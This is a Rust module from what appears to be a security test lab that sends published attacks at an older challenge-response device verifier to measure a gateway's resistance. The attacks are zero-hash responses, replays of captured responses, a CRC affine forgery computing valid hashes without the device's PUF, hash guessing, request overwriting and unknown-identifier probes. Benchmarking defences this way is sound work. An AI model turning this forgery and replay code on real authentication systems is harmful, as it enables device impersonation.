//! The published attacks on the earlier verifier (see [`super::published`]), unchanged. `linewarden-lab` runs the classic
//! profiles in its benchmarks, and sends these attacks against their port.
//!
//! No gateway opens that port, so no reply arrives. Messages also go to the ports that the earlier verifier's
//! simulator and firmware used, because that verifier ignored port numbers.

use std::time::{Duration, Instant};

use linewarden_protocol::classic::{Block, Message, ResponseBits, hash, message_type, xor};
use linewarden_protocol::frame::write::Endpoint;
use rand::Rng as _;

use super::attacker_link::{ReceivedDatagram, attacker_endpoint};
use super::{AttackContext, AttackCounts, AttackError};
use crate::address::{Family, GATEWAY};

/// Highest identifier of the earlier verifier; the lowest is 1.
const IDENTIFIERS: u32 = 500;
/// Ports of the earlier verifier's simulator and firmware, and the LAP port.
const OTHER_PORTS: [u16; 3] = [18_000, 14_550, linewarden_protocol::wire::LAP_PORT];
const ZERO: Block = [0; 32];
/// Wait for the first reply of a classic verifier.
const FIRST_EXTRA_WAIT: Duration = Duration::from_millis(100);
/// Wait for each further reply.
const EXTRA_WAIT: Duration = Duration::from_millis(10);

/// A legitimate exchange as captured.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct ClassicExchange {
    /// Response size.
    pub bits: ResponseBits,
    /// The verifier's CH.
    pub challenge: Message,
    /// The device's RESP.
    pub response: Message,
}

/// Sends messages from one attacker address to the classic port and [`OTHER_PORTS`], and collects the replies.
struct ClassicProbe {
    source: Endpoint,
    ports: Vec<u16>,
    /// Additional wait for replies after the gateway has processed all frames: a verifier on another port may be
    /// slower than the gateway. Zero if no port replied to a legitimate REQ.
    extra_wait: Duration,
}

impl ClassicProbe {
    fn new(context: &mut AttackContext<'_>, number: u32) -> Result<Self, AttackError> {
        let mut prober = Self {
            source: attacker_endpoint(number, 50_004),
            ports: std::iter::once(context.classic_port).chain(OTHER_PORTS).collect(),
            extra_wait: FIRST_EXTRA_WAIT,
        };
        let mut is_open = false;
        for bits in ResponseBits::ALL {
            prober.send(context, bits, &Message::new(message_type::REQ, 1))?;
            is_open |= !prober.replies(context, bits)?.is_empty();
        }
        prober.extra_wait = if is_open { EXTRA_WAIT } else { Duration::ZERO };
        Ok(prober)
    }

    fn send(
        &self,
        context: &mut AttackContext<'_>,
        bits: ResponseBits,
        message: &Message,
    ) -> Result<(), AttackError> {
        let mut payload = vec![0u8; bits.message_bytes()];
        message
            .write(bits, &mut payload)
            .ok_or(AttackError::ControlFailed("a classic message cannot be encoded"))?;
        for port in &self.ports {
            context
                .link
                .send(&self.source, &GATEWAY.endpoint(Family::V4, *port), &payload)?;
        }
        Ok(())
    }

    /// All classic replies until the gateway has processed the sent frames, and for [`Self::extra_wait`] longer.
    fn replies(
        &self,
        context: &mut AttackContext<'_>,
        bits: ResponseBits,
    ) -> Result<Vec<Message>, AttackError> {
        let mut replies = Vec::new();
        let mut on_datagram = |received: &ReceivedDatagram<'_>| {
            if received.to == self.source && self.ports.contains(&received.from.port) {
                replies.extend(Message::parse(bits, received.payload));
            }
        };
        context.link.wait_processed(&mut on_datagram)?;
        if !self.extra_wait.is_zero() {
            // The wait has a limit, because other traffic may never stop.
            let deadline = Instant::now() + 5 * self.extra_wait;
            while Instant::now() < deadline && context.link.wait(self.extra_wait)? {
                context.link.receive(&mut |received| {
                    on_datagram(received);
                    false
                })?;
            }
        }
        Ok(replies)
    }
}

fn count_acks(replies: &[Message]) -> u64 {
    replies
        .iter()
        .filter(|reply| reply.kind == message_type::ACK)
        .count() as u64
}

fn response_with(identifier: u32, hash: u32) -> Message {
    Message {
        hash,
        ..Message::new(message_type::RESP, identifier)
    }
}

/// Sends a RESP with hash 0 for each identifier, without an earlier REQ. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn zero_hash(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 21)?;
    let mut counts = AttackCounts::default();
    for bits in ResponseBits::ALL {
        for identifier in 1..=IDENTIFIERS {
            prober.send(context, bits, &response_with(identifier, 0))?;
            counts.attempts += 1;
            if identifier % 32 == 0 || identifier == IDENTIFIERS {
                counts.successes += count_acks(&prober.replies(context, bits)?);
            }
        }
    }
    Ok(counts)
}

/// The captured exchanges, or random ones if none was captured.
fn exchanges(context: &mut AttackContext<'_>) -> Vec<ClassicExchange> {
    if !context.classic_exchanges.is_empty() {
        return context.classic_exchanges.clone();
    }
    (1..=8)
        .map(|identifier| {
            let mut challenge = Message::new(message_type::CH, identifier);
            context
                .rng
                .fill_bytes(challenge.rn.get_mut(..8).unwrap_or_default());
            ClassicExchange {
                bits: ResponseBits::B64,
                challenge,
                response: response_with(identifier, context.rng.next_u32()),
            }
        })
        .collect()
}

/// Replays captured RESPs. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn replayed_response(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 22)?;
    let mut counts = AttackCounts::default();
    for exchange in exchanges(context) {
        for _ in 0..20 {
            prober.send(context, exchange.bits, &exchange.response)?;
            counts.attempts += 1;
        }
        counts.successes += count_acks(&prober.replies(context, exchange.bits)?);
    }
    Ok(counts)
}

/// Computes from one captured exchange the response to every other exchange with the same challenge, without the PUF's
/// response: `H' = H ^ CRC(0, RN' ^ RN'') ^ CRC(0)`. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn affine_forgery(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 23)?;
    let mut counts = AttackCounts::default();
    for exchange in exchanges(context) {
        let bits = exchange.bits;
        // Challenges are drawn with replacement, so one of several REQs may return the captured challenge.
        for _ in 0..32 {
            let identifier = exchange.challenge.identifier;
            prober.send(context, bits, &Message::new(message_type::REQ, identifier))?;
            counts.attempts += 1;
            let replies = prober.replies(context, bits)?;
            let same_challenge = replies.iter().find(|reply| {
                reply.kind == message_type::CH
                    && (reply.challenge1, reply.challenge2)
                        == (exchange.challenge.challenge1, exchange.challenge.challenge2)
            });
            let Some(challenge) = same_challenge else {
                continue;
            };
            let second = (exchange.challenge.challenge2 != 0).then_some(&ZERO);
            let delta = xor(&challenge.rn, &exchange.challenge.rn);
            let forged =
                exchange.response.hash ^ hash(bits, &ZERO, second, &delta) ^ hash(bits, &ZERO, second, &ZERO);
            let response = Message {
                challenge1: challenge.challenge1,
                challenge2: challenge.challenge2,
                ..response_with(identifier, forged)
            };
            prober.send(context, bits, &response)?;
            counts.successes += count_acks(&prober.replies(context, bits)?);
        }
    }
    Ok(counts)
}

/// Guesses 32-bit hashes: a sample of all 2^32, which take minutes at line rate. An ACK is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn guessed_hashes(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 24)?;
    let mut counts = AttackCounts::default();
    let bits = ResponseBits::B64;
    prober.send(context, bits, &Message::new(message_type::REQ, 1))?;
    for number in 0..context.messages_per_attack {
        let guess = response_with(1, context.rng.next_u32());
        prober.send(context, bits, &guess)?;
        counts.attempts += 1;
        if number % 64 == 63 || number + 1 == context.messages_per_attack {
            counts.successes += count_acks(&prober.replies(context, bits)?);
        }
    }
    Ok(counts)
}

/// Sends a second REQ for an identifier whose exchange is running. A second, different CH is a success, because the
/// expected hash of the first exchange is then replaced.
///
/// # Errors
/// See [`AttackError`].
pub fn overwriting_request(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 25)?;
    let mut counts = AttackCounts::default();
    for bits in ResponseBits::ALL {
        for identifier in 1..=16 {
            let request = Message::new(message_type::REQ, identifier);
            prober.send(context, bits, &request)?;
            let first = prober.replies(context, bits)?;
            prober.send(context, bits, &request)?;
            let second = prober.replies(context, bits)?;
            counts.record(
                second.iter().any(|reply| {
                    reply.kind == message_type::CH && !first.is_empty() && !first.contains(reply)
                }),
            );
        }
    }
    Ok(counts)
}

/// Sends REQs with unknown identifiers. Any reply is a success.
///
/// # Errors
/// See [`AttackError`].
pub fn unknown_id(context: &mut AttackContext<'_>) -> Result<AttackCounts, AttackError> {
    let prober = ClassicProbe::new(context, 26)?;
    let mut counts = AttackCounts::default();
    for bits in ResponseBits::ALL {
        for identifier in [0, IDENTIFIERS + 1, 1 << 31, u32::MAX] {
            prober.send(context, bits, &Message::new(message_type::REQ, identifier))?;
            counts.record(!prober.replies(context, bits)?.is_empty());
        }
    }
    Ok(counts)
}
